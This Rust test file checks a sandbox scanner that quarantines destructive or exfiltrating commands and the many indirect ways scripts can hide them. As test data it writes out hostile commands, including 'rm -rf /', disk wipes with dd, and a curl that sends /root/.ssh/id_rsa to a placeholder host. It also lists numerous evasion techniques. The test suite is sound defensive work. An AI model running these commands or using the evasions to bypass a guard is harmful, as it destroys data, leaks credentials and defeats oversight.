use std::convert::Infallible;

use hotcell_guard::{Artifact, Limits, Pack, scan};

use super::*;

struct Reader(Pack, Limits);

impl Reader {
    fn new() -> Self {
        let limits = Limits { time: std::time::Duration::from_secs(120), ..Limits::default() };
        Self(Pack::builtin().unwrap(), limits)
    }

    fn source(&self, name: &str, language: Language, text: &str) -> Verdict {
        scan(&self.0, &self.1, &Artifact::new(name, text).run_as(language)).verdict
    }

    fn command(&self, argv: &[&str], stdin: &str) -> Verdict {
        self.whole(Whole {
            argv: argv.iter().map(OsString::from).collect(),
            source: None,
            feed: if stdin.is_empty() { Feed::Nothing } else { Feed::Bytes(stdin.as_bytes()) },
            ..Whole::of_source(Artifact::new("", ""))
        })
    }

    fn whole(&self, whole: Whole<'_>) -> Verdict {
        let mut reads = |target: &Target| -> Result<Report, Infallible> {
            Ok(match target {
                Target::Source(artifact) => scan(&self.0, &self.1, artifact),
                Target::Unread(part, why) => {
                    unread(part, PartState::Skipped(why.clone()), Verdict::Incomplete)
                }
                Target::Path(path, executed) => {
                    let walk =
                        hotcell_guard::Walk { gitignore: false, packages: false, executed: Some(executed) };
                    let read = &mut |file: &Artifact| scan(&self.0, &self.1, file);
                    hotcell_guard::scan_path(&self.1, path, walk, read, &mut |_| ()).unwrap()
                }
                Target::View(..) => unreachable!("no layers"),
            })
        };
        let Ok(done) = whole.read(&mut reads);
        done.reports.iter().map(|report| report.verdict).max().unwrap_or(Verdict::Allow)
    }
}

/// Code that is refused as a source is refused as an argument and as standard input of a program that
/// executes it, too.
#[test]
fn inline_code_is_judged_like_source() {
    let reader = Reader::new();
    let quoted = |text: &str| command::quote(text).into_owned();
    let mut seen = 0;
    for rule in &reader.0.rules {
        let (language, name, program, flag) = match rule.language {
            Language::Python => (Language::Python, "main.py", "python3", "-c"),
            Language::Bash => (Language::Bash, "main.sh", "bash", "-c"),
            Language::JavaScript => (Language::JavaScript, "main.js", "node", "-e"),
            _ => continue,
        };
        let examples = rule.metadata.positive.iter().chain(&rule.metadata.benign);
        // Arguments contain no zero bytes; a first line such as `#!file` belongs to the form of the examples.
        for text in examples.filter(|text| !text.starts_with("#!") && !text.contains('\0')) {
            seen += 1;
            let own = reader.source(name, language, text);
            let line = format!("{program} {flag} {}", quoted(text));
            for (argv, stdin) in [
                (&[program, flag, text][..], ""),
                (&["env", "A=1", "nice", program, flag, text], ""),
                (&[program], text),
                (&[program, "/dev/stdin"], text),
                (&["bash", "-c", &line], ""),
                (&["sh"], &line),
            ] {
                let found = reader.command(argv, stdin);
                assert!(
                    found >= own,
                    "{}: {own:?} as a source, {found:?} as {argv:?} with {stdin:?}",
                    rule.id
                );
            }
        }
    }
    assert!(seen > 300, "{seen} examples");
}

/// A command line is judged like the same line in a script.
#[test]
fn command_line_is_judged_like_script_line() {
    let reader = Reader::new();
    for argv in [
        &["rm", "-rf", "/home"][..],
        &["sudo", "rm", "-rf", "/"],
        &["nice", "rm", "-rf", "/home"],
        &["dd", "if=/dev/zero", "of=/dev/sda"],
        &["bash", "-i"],
        &["chmod", "-R", "777", "/"],
        &["curl", "-d", "@/root/.ssh/id_rsa", "http://x.invalid"],
        &["git", "-c", "alias.x=!rm -rf /home", "x"],
        &["xargs", "rm", "-rf", "/home"],
        &["true", "x"],
        &["ls", "-la"],
        &["make", "test"],
    ] {
        let line = command::shell_line(&argv.iter().map(OsString::from).collect::<Vec<_>>(), &[]);
        let own = reader.source("main.sh", Language::Bash, &line);
        let found = reader.command(argv, "");
        assert!(found >= own, "{own:?} in a script, {found:?} as {argv:?}");
    }
}

#[test]
fn indirectly_executed_files_are_scanned() {
    let reader = Reader::new();
    let mut wrong = Vec::new();
    let evil = "import shutil\nshutil.rmtree('/home')\n";
    for (files, argv, stdin, want) in [
        (&[("a", evil)][..], &["python3", "a"][..], "", Verdict::Quarantine),
        (&[("a", "rm -rf /home\n")], &["cat", "a"], "", Verdict::Allow),
        (
            &[("a", "import runpy\nrunpy.run_path('b')\n"), ("b", evil)],
            &["python3", "a"],
            "",
            Verdict::Quarantine,
        ),
        (
            &[("a", ". ./b\n"), ("b", "sh c\n"), ("c", "rm -rf /home\n")],
            &["sh", "a"],
            "",
            Verdict::Quarantine,
        ),
        (
            &[
                ("d/a.js", "require('./b.txt')\n"),
                ("d/b.txt", "require('fs').rmSync('/', {recursive: true})\n"),
            ],
            &["node", "d/a.js"],
            "",
            Verdict::Quarantine,
        ),
        (&[], &["python3", "-c", "import sys; exec(sys.stdin.read())"], evil, Verdict::Quarantine),
        (&[], &["python3", "-c", "import sys; exec(sys.argv[1])", evil], "", Verdict::Quarantine),
        (&[], &["sh", "-c", "\"$@\"", "x", "rm", "-rf", "/home"], "", Verdict::Quarantine),
        (&[], &["sh", "-c", "eval \"$0\"", "rm -rf /home"], "", Verdict::Quarantine),
        (&[], &["sh", "-c", "python3 -"], evil, Verdict::Quarantine),
        (&[], &["sh", "-c", "cat | python3 -"], evil, Verdict::Quarantine),
        (&[], &["sh", "-c", "wc -l"], "rm -rf /home", Verdict::Allow),
        (&[("a", "rm -rf /home\n")], &["sh", "-c", "./a"], "", Verdict::Quarantine),
        (&[("a", "rm -rf /home\n")], &["sh", "-c", "sh < a"], "", Verdict::Quarantine),
        (&[("a", "rm -rf /home\n")], &["sh", "-c", "exec 3<a; sh <&3"], "", Verdict::Quarantine),
        (&[("a", "rm -rf /home\n")], &["sh", "-c", "cat a | sh"], "", Verdict::Quarantine),
        (&[("a", "rm -rf /home\n")], &["sh", "-c", "xargs -0 sh -c < a"], "", Verdict::Quarantine),
        (&[("a", "rm -rf /home\n")], &["sort", "--compress-program=./a", "a"], "", Verdict::Quarantine),
        (&[], &["bash", "-c", "mapfile -t a; eval \"${a[0]}\""], "rm -rf /home", Verdict::Quarantine),
        (&[], &["bash", "-c", "bash <(cat)"], "rm -rf /home", Verdict::Quarantine),
        (&[], &["bash", "-c", "eval \"$(cat)\""], "rm -rf /home", Verdict::Quarantine),
        (&[], &["bash", "-c", "cat > /tmp/x; sh /tmp/x"], "rm -rf /home", Verdict::Quarantine),
        (&[], &["bash", "-c", "read x; $x"], "rm -rf /home", Verdict::Quarantine),
        (&[], &["sh", "-c", ". /dev/stdin"], "rm -rf /home", Verdict::Quarantine),
        (&[], &["bash", "-c", "$0 $@", "rm", "-rf", "/home"], "", Verdict::Quarantine),
        (
            &[],
            &["python3", "-c", "import subprocess; subprocess.run(['sh'])"],
            "rm -rf /home",
            Verdict::Quarantine,
        ),
        (&[], &["python3", "-c", "import code; code.interact()"], evil, Verdict::Quarantine),
        (&[], &["make", "-f", "/dev/null", "--eval", "x:;rm -rf /home", "x"], "", Verdict::Quarantine),
        (&[], &["perl", "-e", "1"], "", Verdict::Incomplete),
        (&[("a", "1")], &["perl", "a"], "", Verdict::Incomplete),
        (&[("a", "#!/usr/bin/perl\n1;\n")], &["./a"], "", Verdict::Incomplete),
    ] {
        let dir = tempfile::tempdir().unwrap();
        for (name, text) in files {
            std::fs::create_dir_all(dir.path().join(name).parent().unwrap()).unwrap();
            std::fs::write(dir.path().join(name), text).unwrap();
        }
        let found = reader.whole(Whole {
            workspace: (!files.is_empty()).then(|| (dir.path().to_owned(), Vec::new())),
            argv: argv.iter().map(OsString::from).collect(),
            source: None,
            feed: if stdin.is_empty() { Feed::Nothing } else { Feed::Bytes(stdin.as_bytes()) },
            ..Whole::of_source(Artifact::new("", ""))
        });
        if found != want {
            wrong.push(format!("{files:?} {argv:?}: {found:?}, not {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Verdict on a command in a folder with these files.
fn judged(reader: &Reader, files: &[(&str, &str)], argv: &[&str], stdin: &str) -> Verdict {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::create_dir_all(dir.path().join(name).parent().unwrap()).unwrap();
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    reader.whole(Whole {
        workspace: (!files.is_empty()).then(|| (dir.path().to_owned(), Vec::new())),
        argv: argv.iter().map(OsString::from).collect(),
        source: None,
        feed: if stdin.is_empty() { Feed::Nothing } else { Feed::Bytes(stdin.as_bytes()) },
        ..Whole::of_source(Artifact::new("", ""))
    })
}

#[test]
fn files_added_by_hotcell_precede_run() {
    let reader = Reader::new();
    let driver = "/home/sandbox/.hotcell/driver.py";
    for (provided, want) in [(vec![driver.to_owned()], Verdict::Allow), (Vec::new(), Verdict::Review)] {
        let found = reader.whole(Whole {
            argv: ["python3", driver].map(OsString::from).to_vec(),
            source: None,
            provided: provided.clone(),
            ..Whole::of_source(Artifact::new("", ""))
        });
        assert_eq!(found, want, "{provided:?}");
    }
}

/// Lines in which a shell executes the file `a`: through a command that passes it on, under another name, by a
/// descriptor, by a word that it is made of, or in an arithmetic text.
fn roundabout() -> Vec<String> {
    let mut lines = Vec::new();
    for passes in [
        "cat a",
        "cat <a",
        "head -5 a",
        "sed -n p a",
        "sort a",
        "grep . a",
        "tr -d x <a",
        "awk 1 a",
        "paste a",
        "nl a | cut -f2-",
        "cat a | tee /dev/null",
    ] {
        for to in [
            "| sh",
            "| bash -s",
            "| env sh",
            "| sh /dev/stdin",
            ">q; sh q",
            ">q; . ./q",
            ">./q; ./q",
            "| tee q; sh q",
        ] {
            lines.push(format!("{passes} {to}"));
        }
    }
    for copies in ["cp a q", "mv a q", "ln -s a ./q", "install -m 755 a q", "dd if=a of=q", "tee q <a"] {
        lines.extend(["sh q", "./q", ". ./q", "bash -x q"].map(|runs| format!("{copies}; {runs}")));
    }
    lines.extend(
        [
            "sh 0<a",
            "exec <a; sh",
            "exec 0<a; exec sh",
            "exec 3<a; sh /proc/self/fd/3",
            "exec 3<a; . /dev/fd/3",
            "cp a d/; sh d/a",
            "while read -r l; do $l; done <a",
            "readarray x <a; printf %s \"${x[@]}\" | sh",
            "eval \"$(<a)\"",
            "x=$(cat a); bash -c \"$x\"",
            "x=$(cat a); echo \"${x@P}\"",
            "sh -c '. \"$1\"' _ ./a",
            "sh -c '\"$@\"' _ sh a",
            "sh {a,b}",
            "sh ./{a,b}",
            "f=(a); sh \"${f[0]}\"",
            "sh \"${PWD%/*}/project/a\"",
            "BASH_ENV=a bash -c true",
            "export BASH_ENV=a; bash -c :",
            "GIT_CONFIG_GLOBAL=g git x",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!sh a' git x",
            "x='y[$(sh a)]'; ((x))",
            "echo $((y[$(sh a)]))",
        ]
        .map(str::to_owned),
    );
    for evaluates in ["test -v", "let", "declare", "printf -v", "unset", "read"] {
        lines.extend(["y[$(sh a)]", "y[`sh a`]"].map(|text| format!("{evaluates} '{text}'")));
    }
    lines
}

#[test]
fn file_reaching_shell_through_commands_is_scanned() {
    let reader = Reader::new();
    let git = ("g", "[alias]\n\tx = !sh a\n");
    let mut wrong = Vec::new();
    for line in roundabout() {
        let with = |text| judged(&reader, &[("a", text), git], &["bash", "-c", &line], "");
        if with("rm -rf /home\n") != Verdict::Quarantine {
            wrong.push(format!("not found: {line}"));
        }
        // An honest file is not refused for it.
        if with("echo hello\n") > Verdict::Review {
            wrong.push(format!("refused: {line}"));
        }
    }
    for (line, want) in [
        ("cat a | wc -l", Verdict::Allow),
        ("cp a q; cat q", Verdict::Allow),
        ("sort <a >q; wc q", Verdict::Allow),
        // The beginnings of these are not known before the run.
        ("sh later", Verdict::Review),
        ("./later", Verdict::Review),
        ("tar xf a; sh in/x", Verdict::Review),
        ("date | sh", Verdict::Review),
    ] {
        let found = judged(&reader, &[("a", "rm -rf /home\n")], &["bash", "-c", line], "");
        if found != want {
            wrong.push(format!("{line}: {found:?}, not {want:?}"));
        }
    }
    for call in [
        "subprocess.run('sh', stdin=open('a'))",
        "subprocess.run(['sh'], input=open('a').read())",
        "subprocess.Popen(['bash', '-s'], stdin=open('a'))",
    ] {
        let text = format!("import subprocess\n{call}\n");
        let found = judged(&reader, &[("a", "rm -rf /home\n")], &["python3", "-c", &text], "");
        if found != Verdict::Quarantine {
            wrong.push(format!("{call}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Unread code is refused wherever the command executes it, but not in files that it only has.
#[test]
fn unread_languages_are_refused_inside_other_programs() {
    let reader = Reader::new();
    let mut wrong = Vec::new();
    for argv in [
        &["perl", "x.txt"][..],
        &["perl", "-e", "unlink 1"],
        &["ruby", "x.txt"],
        &["php", "-r", "unlink(1);"],
        &["lua", "x.txt"],
        &["awk", "-f", "x.txt"],
        &["awk", "BEGIN{system(1)}"],
        &["sed", "-f", "x.txt"],
        &["sed", "1e id", "x.txt"],
        &["tclsh", "x.txt"],
        &["gdb", "-ex", "shell id"],
        &["vim", "-es", "-c", ":!id"],
        &["nice", "--adjustment", "5", "perl", "x.txt"],
        &["env", "PERL5OPT=-Mx", "true"],
        &["env", "-S", "perl x.txt"],
    ] {
        let words: Vec<String> = argv.iter().map(|word| command::quote(word).into_owned()).collect();
        let line = words.join(" ");
        let python = format!("import subprocess\nsubprocess.run({argv:?})\n");
        let recipe = format!("all:\n\t@{}\n", line.replace('$', "$$"));
        let script = format!("{line}\n");
        let files = &[("x.txt", "a b\n"), ("Makefile", &recipe), ("a.sh", &script), ("a.py", &python)];
        let runs: &[&[&str]] = &[
            argv,
            &["sh", "-c", &line],
            &["bash", "-c", &format!("if true; then {line}; fi")],
            &["python3", "-c", &python],
            &["sh", "a.sh"],
            &["sh", "-c", ". ./a.sh"],
            &["python3", "a.py"],
            &["make"],
            &["sh", "-c", "make all"],
        ];
        for run in runs {
            let found = judged(&reader, files, run, "");
            if found != Verdict::Incomplete {
                wrong.push(format!("{run:?} {line}: {found:?}"));
            }
        }
        let found = judged(&reader, files, &["cat", "x.txt"], "");
        // A rule may ask about the line itself.
        if !matches!(found, Verdict::Allow | Verdict::Review) {
            wrong.push(format!("only has {line}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Wrappers hide nothing in a script, whatever the form of their options.
#[test]
fn wrappers_hide_no_command_in_a_script() {
    let reader = Reader::new();
    let mut wrong = Vec::new();
    for wrapper in [
        "timeout 5",
        "timeout --signal KILL 5",
        "timeout -k 1 --foreground 5",
        "command -p",
        "command",
        "time -p",
        "/usr/bin/time -f %e",
        "nice --adjustment 5",
        "nice -n 5 nice -5",
        "stdbuf --output L",
        "stdbuf -o L -e0",
        "setpriv --pdeathsig keep",
        "setpriv --reuid 1 --regid 1 --clear-groups",
        "xargs --max-args 1",
        "xargs -0 -r -n 1 --max-procs 2",
        "env -C / -u A B=1",
        "env --chdir / --unset A",
        "ionice --class 2 --classdata 0",
        "exec -a x",
        "nohup setsid -w",
        "chrt -o 0",
        "unshare --map-root-user --wd /",
        "busybox",
        "find . -exec",
        "env -S nice",
        "nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice",
    ] {
        let line = format!("{wrapper} rm -rf /home");
        for argv in [&["sh", "-c", &line][..], &["bash", "-c", &format!("echo a | {line}; echo b")]] {
            let found = judged(&reader, &[], argv, "");
            if found < Verdict::Quarantine {
                wrong.push(format!("{argv:?}: {found:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Honest scripts run, with their usual calls.
#[test]
fn honest_scripts_are_read() {
    let reader = Reader::new();
    let mut wrong = Vec::new();
    for line in [
        "awk '{s+=$1} END{print s}' data.csv",
        "awk -F, '/foo|bar/{n++} END{print n \" -> \" NR}' data.csv",
        "sed -i 's/a/b/g' data.csv",
        "sed \"s/$A/$B/\" data.csv",
        "command -v perl >/dev/null && perl --version",
        "V=$(ruby --version); echo \"$V\"",
        "if command -v lua; then echo yes; fi",
        "timeout 5 python3 -c 'print(1)'",
        "find . -name '*.csv' -exec wc -l {} +",
        "nice -n 5 ls",
        "env A=1 ls",
        "make -s -j4 all",
        "time ls",
    ] {
        let script = format!("set -e\n{line}\n");
        let files = &[("run.sh", &*script), ("data.csv", "1,2\n"), ("Makefile", "all:\n\t@echo a\n")];
        for argv in [&["sh", "run.sh"][..], &["bash", "-c", line]] {
            let found = judged(&reader, files, argv, "");
            if found != Verdict::Allow {
                wrong.push(format!("{argv:?} {line}: {found:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A shell script in a file with a neutral name is read, for every way in which it may be run.
#[test]
fn script_run_by_computed_path_is_scanned() {
    let reader = Reader::new();
    let evil = "rm -rf /home\n";
    let python = "import shutil\nshutil.rmtree('/home')\n";
    let mut wrong = Vec::new();
    let lines = [
        "for f in d/*; do sh \"$f\"; done",
        "for f in d/*.txt; do . \"./$f\"; done",
        "for f in a.csv b.csv d/x.txt; do sh $f; done",
        "for n in x y; do sh d/$n.txt; done",
        "N=$(date); sh \"d/$N\"",
        "sh d/$1",
        "sh d/$(ls d)",
        "sh \"$(pwd)/d/x.txt\"",
        "sh $PWD/d/x.txt",
        "sh ~/project/d/x.txt",
        "sh /home/sandbox/project/d/x.txt",
        "find d -type f -exec sh {} \\;",
        "find d -name x.txt -exec env sh {} +",
        "ls d | sed s,^,d/, | xargs -n1 sh -- ; sh d/?.txt",
        "cd d && sh x.txt",
        "cd d; . ./x.txt",
        "pushd d; sh x.txt; popd",
        "(cd d && sh ./x.txt)",
        "cd d/e; sh ../x.txt",
        "cd \"$(dirname \"$0\")/d\" && sh x.txt",
        "env -C d sh x.txt",
        "env --chdir=d sh x.txt",
        "sudo -D d sh x.txt",
        "sh -c 'cd d; . ./x.txt'",
        "cd d; sh -c '. ./x.txt'",
        "start-stop-daemon --start --exec /bin/sh -- d/x.txt",
        "ssh-agent sh d/x.txt",
        "cmake -E env A=1 sh d/x.txt",
        "cmake -E time sh d/x.txt",
        "cmake -E chdir d sh x.txt",
        "xargs env sh d/x.txt",
        "some-tool --run sh d/x.txt",
        "git -c core.pager='sh d/x.txt' log",
        "git -c pager.log='sh d/x.txt' log",
        "git grep -Osh\\ d/x.txt a",
        "git --config-env=core.pager=X log; sh d/x.txt",
        "git rebase -x'sh d/x.txt' HEAD",
        "GIT_CONFIG_GLOBAL=d/g.txt git log; sh d/x.txt",
        "git -C d -c core.editor='sh x.txt' commit",
    ];
    for line in lines {
        let script = format!("{line}\n");
        let files = &[("d/x.txt", evil), ("d/e/y", "a\n"), ("a.csv", "1\n"), ("run.sh", script.as_str())];
        for argv in [&["sh", "-c", line][..], &["bash", "run.sh"]] {
            let found = judged(&reader, files, argv, "");
            if found != Verdict::Quarantine {
                wrong.push(format!("{argv:?}: {found:?}"));
            }
        }
    }
    for argv in [
        &["env", "-C", "d", "sh", "x.txt"][..],
        &["start-stop-daemon", "--exec", "./d/x.txt"],
        &["find", "d", "-exec", "sh", "{}", ";"],
        &["ssh-agent", "sh", "d/x.txt"],
        &["cmake", "-E", "env", "sh", "d/x.txt"],
        &["some-tool", "sh", "d/x.txt"],
    ] {
        let found = judged(&reader, &[("d/x.txt", evil)], argv, "");
        if found != Verdict::Quarantine {
            wrong.push(format!("{argv:?}: {found:?}"));
        }
    }
    for (files, argv) in [
        (
            &[("d/x.txt", python), ("a.py", "import os, runpy\nos.chdir('d')\nrunpy.run_path('x.txt')\n")][..],
            &["python3", "a.py"][..],
        ),
        (
            &[("d/x.txt", evil), ("a.py", "import subprocess\nsubprocess.run(['sh', 'x.txt'], cwd='d')\n")],
            &["python3", "a.py"],
        ),
        (
            &[
                ("package.json", "{\"main\": \"x.txt\"}"),
                ("x.txt", "require('child_process').execSync('rm -rf /home')\n"),
            ],
            &["node", "."],
        ),
        (
            &[
                ("d/package.json", "{\"exports\": {\".\": {\"node\": \"./x.txt\"}}}"),
                ("d/x.txt", "require('child_process').execSync('rm -rf /home')\n"),
            ],
            &["node", "d"],
        ),
        (
            &[
                ("e.txt", "NODE_OPTIONS=--require=./x.txt\n"),
                ("x.txt", "require('child_process').execSync('rm -rf /home')\n"),
            ],
            &["node", "--env-file=e.txt", "-e", "1"],
        ),
        (
            &[("g.txt", "[core \"x ] y\"]\n\tpager = \\\"rm\\\" -rf /home\n")],
            &["env", "GIT_CONFIG_GLOBAL=g.txt", "git", "log"],
        ),
        (&[("Makefile", "SHELL = ./d/x.txt\nall:\n\techo\n"), ("d/x.txt", evil)], &["make"]),
        (&[("Makefile", "define x\nrm -rf /home\nendef\nall:\n\t$(x)\n")], &["make"]),
        (&[("Makefile", ".RECIPEPREFIX = >\nall:\n>rm -rf /home\n")], &["make"]),
        (&[("Makefile", "$(eval all: ; rm -rf /home)\n")], &["make"]),
        (&[("Makefile", "D = d\ninclude $(D)/x.txt\n"), ("d/x.txt", "all:\n\trm -rf /home\n")], &["make"]),
        (&[("Makefile", "include $(wildcard d/*)\n"), ("d/x.txt", "all:\n\trm -rf /home\n")], &["make"]),
        (
            &[("Makefile", "all:\n\t$(MAKE) -C d -f x.txt\n"), ("d/x.txt", "all:\n\trm -rf /home\n")],
            &["make"],
        ),
        (
            &[("Makefile", ".ONESHELL:\nSHELL = python3\nall:\n\timport shutil\n\tshutil.rmtree('/home')\n")],
            &["make"],
        ),
    ] {
        let found = judged(&reader, files, argv, "");
        if found != Verdict::Quarantine {
            wrong.push(format!("{files:?} {argv:?}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Code that may be executed but was not read is reported, so the verdict is not `allow`.
#[test]
fn input_of_unknown_program_is_reported() {
    let reader = Reader::new();
    let files = &[("x.txt", "a b\n"), ("x.json", "{}"), ("a.py", "print(1)\n")];
    for (argv, want) in [
        (&["some-tool", "x.txt"][..], Verdict::Review),
        (&["some-tool", "--load=x.txt"], Verdict::Review),
        (&["sh", "-c", "some-tool x.txt"], Verdict::Review),
        (&["sh", "-c", "cat x.txt | while read f; do sh \"$f\"; done"], Verdict::Allow),
        (&["sh", "-c", "f=$(some-tool); sh \"$f\""], Verdict::Review),
        (&["some-tool", "x.json"], Verdict::Allow),
        (&["some-tool", "a.py"], Verdict::Allow),
        (&["cat", "x.txt"], Verdict::Allow),
        (&["sh", "-c", "grep a x.txt; cp x.txt y"], Verdict::Allow),
        (&["cmake", "-P", "x.txt"], Verdict::Incomplete),
    ] {
        let found = judged(&reader, files, argv, "");
        let fits = found == want || want == Verdict::Allow && argv[0] == "sh" && found == Verdict::Review;
        assert!(fits, "{argv:?}: {found:?}, not {want:?}");
    }
}
